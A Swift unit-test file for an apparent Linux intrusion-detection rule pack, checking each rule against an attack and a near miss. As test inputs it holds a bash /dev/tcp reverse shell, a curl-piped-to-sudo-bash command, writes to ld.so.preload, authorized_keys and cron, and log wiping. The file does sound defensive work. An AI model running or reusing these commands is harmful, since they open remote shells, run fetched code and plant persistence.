import Testing
import MamoriDetection
import MamoriEvents
import MamoriProcess

/// The built-in pack loads cleanly and each rule fires on its attack but not on a near miss.
@Suite struct BuiltinRulesTests {
    let s = Fixture.second

    private func engine(stdio: @escaping StdioReader = { _ in nil }) -> DetectionEngine {
        let report = RuleLoader.load(sources: BuiltinRules.sources)
        return DetectionEngine(rules: report.ruleSet, configuration: .init(userNames: Fixture.users, stdio: stdio))
    }

    private func ids(_ engine: inout DetectionEngine, _ event: SensorEvent, process: ProcessRecord? = nil,
                     parent: ProcessRecord? = nil, ancestry: [ProcessRecord] = []) -> [String] {
        engine.evaluate(event, process: process, parent: parent, ancestry: ancestry).map(\.id)
    }

    @Test func packLoadsWithoutDiagnostics() {
        let report = RuleLoader.load(sources: BuiltinRules.sources)
        print("built-in rules: \(report.summary)")
        #expect(report.diagnostics.isEmpty, "\(report.diagnostics)")
        #expect(report.loadedCount == BuiltinRules.sources.count)
        #expect(report.ruleSet.rules.allSatisfy { $0.id.hasPrefix("mamori-") && !$0.attack.techniques.isEmpty })
    }

    @Test func reverseShellByDescriptorTypes() {
        var e = engine(stdio: { exec in
            exec.args.last == "socket" ? StdioKinds(stdin: .socket, stdout: .socket, stderr: .socket)
                                       : StdioKinds(stdin: .pipe, stdout: .socket, stderr: .tty)
        })
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "socket"])) == ["mamori-reverse-shell-stdio"])
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "pipe"])).isEmpty)
        #expect(ids(&e, Fixture.exec("/usr/bin/python3", ["python3", "socket"])).isEmpty)
    }

    @Test func webServerShell() {
        var e = engine()
        let fpm = Fixture.record(pid: 40, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], unit: "php8.2-fpm.service")
        #expect(ids(&e, Fixture.exec("/bin/sh", ["sh", "-c", "id"]), parent: fpm, ancestry: [fpm]) == ["mamori-web-server-shell"])
        let cron = Fixture.record(pid: 40, "/usr/sbin/cron", unit: "cron.service")
        #expect(ids(&e, Fixture.exec("/bin/sh", ["sh", "-c", "id"]), parent: cron, ancestry: [cron]).isEmpty)
    }

    @Test func ldapFanOutAndPortScan() {
        var e = engine()
        var fired: [String] = []
        for host in 1...5 {
            fired += ids(&e, Fixture.network(to: Fixture.ipv4("10.1.0.\(host)"), port: 88, ts: UInt64(host) * s))
        }
        #expect(fired == ["mamori-ldap-fanout"])
        var scan: [String] = []
        for port in 1...50 {
            scan += ids(&e, Fixture.network(to: Fixture.ipv4("10.1.0.9"), port: UInt16(1000 + port), pid: 300, ts: 20 * s))
        }
        #expect(scan == ["mamori-port-scan"])
        var local: [String] = []
        for port in 1...60 {
            local += ids(&e, Fixture.network(to: Fixture.ipv4("127.0.0.1"), port: UInt16(1000 + port), pid: 301, ts: 20 * s))
        }
        #expect(local.isEmpty)
    }

    @Test func commandLineRules() {
        var e = engine()
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"])) == ["mamori-dev-tcp"])
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "-c", "curl -fsSL http://x/i.sh | sudo bash"])) == ["mamori-download-to-shell"])
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "-c", "curl -fsSL http://x/i.sh | shasum"])).isEmpty)
        #expect(ids(&e, Fixture.exec("/bin/bash", ["bash", "-c", "curl -o /tmp/x http://x"])).isEmpty)
    }

    @Test func fileRules() {
        var e = engine()
        let vim = Fixture.record(pid: 100, "/usr/bin/vim")
        let dpkg = Fixture.record(pid: 100, "/usr/bin/dpkg")
        #expect(ids(&e, Fixture.file(.openWrite, "/etc/ld.so.preload"), process: vim) == ["mamori-ld-preload-write"])
        #expect(ids(&e, Fixture.file(.openWrite, "/root/.ssh/authorized_keys"), process: vim) == ["mamori-ssh-authorized-keys"])
        #expect(ids(&e, Fixture.file(.openWrite, "/root/.ssh/authorized_keys"), process: Fixture.record(pid: 100, "/usr/sbin/sshd")).isEmpty)
        #expect(ids(&e, Fixture.file(.create, "/etc/cron.d/backdoor"), process: vim) == ["mamori-cron-write"])
        #expect(ids(&e, Fixture.file(.create, "/etc/cron.d/backdoor"), process: dpkg).isEmpty)
        #expect(ids(&e, Fixture.file(.rename, "/tmp/u", target: "/etc/systemd/system/x.service"), process: vim) == ["mamori-systemd-unit-write"])
        #expect(ids(&e, Fixture.file(.create, "/etc/systemd/system/x.conf"), process: vim).isEmpty)
    }

    @Test func shellOutboundAndLogWipe() {
        var e = engine()
        let bash = Fixture.record(pid: 100, "/bin/bash")
        #expect(ids(&e, Fixture.network(to: Fixture.ipv4("203.0.113.7"), port: 4444), process: bash) == ["mamori-shell-outbound"])
        #expect(ids(&e, Fixture.network(to: Fixture.ipv4("127.0.0.1"), port: 4444), process: bash).isEmpty)
        let rm = Fixture.record(pid: 200, "/usr/bin/rm")
        var wiped: [String] = []
        for i in 0..<20 { wiped += ids(&e, Fixture.file(.unlink, "/var/log/f\(i)", pid: 200, ts: 50 * s), process: rm) }
        #expect(wiped == ["mamori-log-wipe"])
    }

    @Test func dropChmodExec() {
        var e = engine()
        let shell = Fixture.record(pid: 60, "/bin/bash", ppid: 1, session: 60)
        let curl = Fixture.record(pid: 61, "/usr/bin/curl", ppid: 60, session: 60)
        let chmod = Fixture.record(pid: 62, "/usr/bin/chmod", ppid: 60, session: 60)
        let payload = Fixture.record(pid: 63, "/tmp/.x", ppid: 60, session: 60)
        #expect(ids(&e, Fixture.file(.create, "/tmp/.x", pid: 61, ts: 1 * s), process: curl, parent: shell, ancestry: [shell]).isEmpty)
        #expect(ids(&e, Fixture.file(.chmod, "/tmp/.x", mode: 0o755, pid: 62, ts: 2 * s), process: chmod, parent: shell, ancestry: [shell]).isEmpty)
        #expect(ids(&e, Fixture.exec("/tmp/.x", ["./.x"], pid: 63, ppid: 60, ts: 3 * s, session: 60), process: payload, parent: shell, ancestry: [shell])
                == ["mamori-drop-chmod-exec"])
    }
}
